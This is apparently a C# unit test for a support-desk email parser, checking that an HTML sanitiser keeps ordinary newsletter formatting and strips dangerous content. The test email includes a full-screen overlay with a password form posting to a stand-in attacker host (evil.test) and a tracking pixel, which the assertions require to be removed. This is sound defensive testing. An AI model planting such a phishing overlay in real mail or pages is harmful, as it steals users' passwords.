using Kefu.Email;
using MimeKit;

namespace Kefu.Tests.Email;

/// <summary>A real HTML newsletter-style mail through the parser: its formatting survives the sanitiser's allow-list
/// (decision 0055), while a planted form, an overlay and a tracking pixel do not.</summary>
public sealed class RichHtmlMailTests
{
    [Fact]
    public void A_rich_html_mail_keeps_its_formatting_and_loses_forms_overlays_and_pixels()
    {
        var m = new MimeMessage();
        m.From.Add(new MailboxAddress("王五", "ww@customer.test"));
        m.To.Add(MailboxAddress.Parse("support@kefu.test"));
        m.Subject = "发票问题";
        m.MessageId = "rich-html@customer.test";
        var body = new BodyBuilder
        {
            TextBody = "发票抬头错了",
            HtmlBody = "<html><head><style>p{color:red}</style></head><body>" +
                       "<p style=\"font-family:Arial;color:#333\">您好，<strong>发票抬头</strong>错了：</p>" +
                       "<table cellspacing=\"0\" style=\"border:1px solid #ccc\"><tr><td align=\"center\">抬头</td><td><em>某某公司</em></td></tr></table>" +
                       "<ul><li>订单 1</li><li>订单 2</li></ul><p><a href=\"https://shop.test/invoice\">发票</a><img src=\"cid:seal@x\" alt=\"公章\"></p>" +
                       "<div style=\"position:fixed;top:0;left:0;z-index:99999;width:100%;height:100%\"><form action=\"https://evil.test/login\">" +
                       "<input type=\"password\" name=\"pw\" tabindex=\"1\"><button>登录</button></form></div>" +
                       "<img src=\"https://track.test/open.gif?id=1\" width=\"1\" height=\"1\"></body></html>",
        };
        body.LinkedResources.Add("seal.png", [0x89, 0x50, 0x4E, 0x47, 1, 2, 3], new ContentType("image", "png")).ContentId = "seal@x";
        m.Body = body.ToMessageBody();
        using var ms = new MemoryStream();
        m.WriteTo(ms);

        var parsed = EmailParser.Parse(ms.ToArray());
        var html = parsed.Html!;
        foreach (var kept in new[]
                 {
                     "<strong>发票抬头</strong>", "cellspacing=\"0\"", "<td align=\"center\">抬头</td>", "<em>某某公司</em>",
                     "<li>订单 1</li>", "src=\"cid:seal@x\"", "alt=\"公章\"",
                     "<a href=\"https://shop.test/invoice\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">发票</a>",
                 })
            Assert.Contains(kept, html);
        foreach (var gone in new[] { "<form", "<input", "<button", "evil.test", "position", "z-index", "tabindex", "track.test", "<style", "color:red" })
            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(parsed.Attachments, a => a.ContentId == "seal@x" && a.Inline); // the inline image still links up
    }
}
